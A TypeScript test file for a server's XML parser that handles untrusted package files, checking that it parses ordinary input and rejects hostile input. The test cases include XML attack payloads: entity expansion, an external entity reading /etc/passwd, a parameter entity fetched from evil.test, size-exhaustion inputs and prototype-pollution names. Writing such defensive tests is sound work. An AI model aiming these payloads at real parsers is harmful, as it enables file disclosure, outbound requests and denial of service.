import { describe, expect, it } from 'vitest'
import { PackageError } from '#server/core/packages/package-error.ts'
import { decodeEntities, descendants, parseXml, textOf } from '#server/core/packages/xml.ts'

const parse = (text: string) => parseXml(Buffer.from(text))
const errorCodeOf = (text: string): string => {
  try {
    parse(text)
    return 'accepted'
  } catch (error) {
    return error instanceof PackageError ? error.code : `threw ${String(error)}`
  }
}

describe('untrusted XML', () => {
  it('reads mixed content in order, with names without prefix', () => {
    const root = parse(
      '<?xml version="1.0" encoding="UTF-8"?><q:a xmlns:q="x" q:id="1"><p>one &amp; <b>two</b> three</p><![CDATA[<raw&>]]></q:a>',
    )
    expect(root.name).toBe('a')
    expect(root.attributes['id']).toBe('1')
    expect(textOf(root)).toBe('one & two three<raw&>')
    expect(descendants(root, ({ name }) => name === 'b')).toHaveLength(1)
  })

  it('reads other declared encodings', () => {
    const latin = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>', 'latin1')
    expect(textOf(parseXml(latin))).toBe('café')
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>नमस्ते</a>', 'utf16le')])
    expect(textOf(parseXml(wide))).toBe('नमस्ते')
  })

  it('accepts a plain document type', () => {
    expect(errorCodeOf('<!DOCTYPE questestinterop SYSTEM "ims_qtiasiv1p2.dtd"><questestinterop/>')).toBe(
      'accepted',
    )
  })

  it('accepts markup declarations inside of CDATA and comments', () => {
    expect(textOf(parse('<!-- <!DOCTYPE a [ --><a><![CDATA[<!ENTITY x "y">]]></a>'))).toBe('<!ENTITY x "y">')
  })

  const laughs = `<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;">]><a>&m;</a>`
  it.each([
    ['entity definitions', laughs, 'xml_entities'],
    ['an external file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'xml_entities'],
    [
      'parameters fetched',
      '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]><a/>',
      'xml_entities',
    ],
    ['a missing end tag', '<a><b></a>', 'xml_broken'],
    ['two roots', '<a/><b/>', 'xml_broken'],
    ['an empty file', '', 'xml_broken'],
    ['plain text', 'hello', 'xml_broken'],
    ['an open attribute', '<a b="1></a>', 'xml_broken'],
    ['binary data', '<a>\0</a>', 'xml_broken'],
    ['deep nesting', `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`, 'xml_too_deep'],
    ['many document types', '<!DOCTYPE '.repeat(390_000), 'xml_broken'],
    ['two document types', '<!DOCTYPE a><!DOCTYPE a><a/>', 'xml_entities'],
    ['a document type behind the root', '<a/><!DOCTYPE a>', 'xml_entities'],
    ['an open comment', '<a><!-- </a>', 'xml_broken'],
    ['an open CDATA section', '<a><![CDATA[ </a>', 'xml_broken'],
    [
      'many attributes',
      `<a ${Array.from({ length: 700_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
      'xml_too_large',
    ],
    ['too many elements', `<a>${'<b/>'.repeat(500_000)}</a>`, 'xml_too_large'],
  ])('rejects %s', (_, text, code) => {
    expect(errorCodeOf(text)).toBe(code)
  })

  it('leaves an unknown entity as text', () => {
    expect(textOf(parse('<a>&nope; &#x41;&#65;</a>'))).toBe('&nope; AA')
    expect(decodeEntities('&#0;&#xd800;&#x110000;')).toBe('\u{fffd}\u{fffd}\u{fffd}')
  })

  it('reads entities and attributes named like members of every object as text', () => {
    const names = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__', 'isPrototypeOf']
    const text = names.map((name) => `&${name};`).join('')
    const root = parse(`<a b="${text}">${text}</a>`)
    expect([textOf(root), root.attributes['b']]).toEqual([text, text])
    expect(names.map((name) => root.attributes[name])).toEqual(names.map(() => undefined))
  })

  it('changes no prototype', () => {
    expect(errorCodeOf('<a><__proto__ polluted="yes"/><b __proto__="x" polluted="yes"/></a>')).not.toMatch(
      /^threw/,
    )
    expect(errorCodeOf('<a><constructor><prototype polluted="yes"/></constructor></a>')).not.toMatch(/^threw/)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})
